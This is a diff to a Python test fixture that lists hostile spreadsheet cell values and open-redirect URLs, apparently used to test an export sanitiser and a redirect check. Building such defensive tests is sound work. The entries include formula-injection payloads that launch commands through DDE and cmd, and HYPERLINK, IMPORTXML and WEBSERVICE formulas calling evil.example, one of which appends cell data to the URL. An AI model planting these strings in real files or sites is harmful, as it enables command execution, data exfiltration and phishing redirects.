@@ -4,10 +4,10 @@
 HOSTILE_CELLS = (
     "=1+1",
     "=cmd|'/c calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
-    "=IMPORTXML(\"http://evil.example\",\"//a\")",
-    "=WEBSERVICE(\"http://evil.example\")",
-    "=DDE(\"cmd\";\"/c calc\";\"x\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    '=IMPORTXML("http://evil.example","//a")',
+    '=WEBSERVICE("http://evil.example")',
+    '=DDE("cmd";"/c calc";"x")',
     "+1+1",
     "+62 812 3456 7890",
     "+cmd|'/c calc'!A0",
@@ -40,19 +40,19 @@ HOSTILE_CELLS = (
     "'=1+1",
     "''=1+1",
     "'",
-    "\"=1+1",
-    "\"\"=1+1",
+    '"=1+1',
+    '""=1+1',
     "a\n=1+1",
     "baris satu\r\n+1",
     "nama;=1+1",
-    "nama;\"=1+1\"",
+    'nama;"=1+1"',
     "nama,=1+1",
     "nama,\t-1",
     "nama|=1",
     "a\t=1+1",
-    "\";=1+1;\"",
-    "\",=1+1,\"",
-    "\"\n=1+1",
+    '";=1+1;"',
+    '",=1+1,"',
+    '"\n=1+1',
     "\uff1d1+1",
     "\uff0b1",
     "\uff0d1",
@@ -61,18 +61,20 @@ HOSTILE_CELLS = (
     "-",
     "+",
     "@",
-    "=\"\"",
+    '=""',
     "=1+1\x00",
 )
 
 #: Ordinary values that must pass unharmed, beside the hostile ones.
-PLAIN_CELLS = ("", "Nurhayati", "1671********0001", "0812", "Jl. Kapten A. Rivai No. 7", "a=b", "5-10", "surel: a@b.id", "Ma'ruf", "a, b; c")
+PLAIN_CELLS = ("", "Nurhayati", "1671********0001", "0812", "Jl. Kapten A. Rivai No. 7", "a=b", "5-10", "surel: a@b.id", "Ma'ruf", "a, b")
 
 #: R41: addresses that lead, or may be read to lead, somewhere else.
 HOSTILE_REDIRECTS = (
     "http://evil.example",
     "https://evil.example/",
     "HTTPS://EVIL.EXAMPLE",
+    "//",
+    "//?evil.example",
     "//evil.example",
     "///evil.example",
     "////evil.example/%2f..",
